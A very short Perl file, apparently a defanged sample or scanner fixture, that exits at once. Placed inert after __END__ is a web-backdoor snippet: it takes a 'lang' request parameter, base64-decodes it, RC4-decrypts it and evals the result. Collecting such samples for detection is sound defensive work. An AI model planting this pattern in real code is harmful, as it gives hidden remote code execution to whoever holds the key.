#!/usr/bin/perl
exit;
__END__
require Crypt::RC4;
my $in = $page->multi_param(-name => 'lang');
my $text = Crypt::RC4->new($k)->RC4(MIME::Base64::decode($in));
eval qq{$text};
